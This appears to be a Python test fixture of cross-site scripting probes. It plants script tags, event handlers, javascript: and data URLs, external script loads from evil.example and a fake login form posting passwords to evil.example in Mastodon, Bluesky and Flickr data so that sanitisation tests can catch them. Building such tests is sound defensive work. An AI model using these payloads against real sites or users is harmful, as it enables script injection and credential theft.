"""XSS probes. Each lands in a payload that otherwise looks like real source data; every hostile
post also carries the literal text XSS-PROBE so tests can find it."""

from __future__ import annotations

MARKER = "XSS-PROBE"

# Raw HTML dropped into a Mastodon status's content (a hostile or non-Mastodon server sends it).
MASTODON_HTML = {
    "script": "<script>alert(1)</script>",
    "javascript_href": '<a href="javascript:alert(1)">my slides</a>',
    "img_onerror": "<img src=x onerror=alert(1)>",
    "iframe": '<iframe src="https://evil.example/embed" width="600" height="400"></iframe>',
    "svg_onload": '<svg onload=alert(1)><circle r="40"/></svg>',
    "style": '<span style="position:fixed;top:0;left:0;width:100vw;height:100vh;'
    'background:#f00;z-index:9999">covering the whole page</span>',
    "data_url": '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">notes</a>',
    "entity_js": '<a href="jav&#x61;script:alert(1)">more photos</a>',
    "onclick": '<a href="https://example.org/" onclick="alert(1)" onmouseover="alert(2)">hover</a>',
    "uppercase_script": "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "meta_refresh": '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    "form": '<form action="https://evil.example/steal"><input name="password">'
    "<button>Log in again</button></form>",
}
# Kinds that live outside the content HTML (the content still carries the marker).
MASTODON_OTHER = ("spoiler", "card_script")
HOSTILE_SPOILER = '<img src=x onerror=alert(1)> CW: "><script>alert(1)</script>'
HOSTILE_CARD_HTML = '<iframe srcdoc="<script>alert(1)</script>"></iframe><script>alert(2)</script>'
HOSTILE_DISPLAY_NAME = '<b>Mallory</b> "><script>alert(1)</script>'
HOSTILE_NOTE = '<p onmouseover="alert(1)">just a normal bio</p><script>alert(1)</script>'

# Bluesky text is plain text, but it lands inside HTML somewhere downstream.
BLUESKY_TEXT = {
    "bluesky_script": "<script>alert(1)</script>",
    "bluesky_img": "<img src=x onerror=alert(1)>",
    "bluesky_js_link": "",  # a #link facet whose uri is javascript:alert(1)
}
BLUESKY_JS_URI = "javascript:alert(1)"

FLICKR = {
    "flickr_description": (
        'Great session! <script>alert(1)</script><a href="javascript:alert(1)">more</a> '
        "<img src=x onerror=alert(1)>"
    ),
    "flickr_ownername": "<img src=x onerror=alert(1)>",
    "flickr_title": '"><svg onload=alert(1)>',
}
# The real, harmless-but-awkward owner name from fixtures/flickr-photos-search.json.
AWKWARD_OWNER = "<==Manji==>"
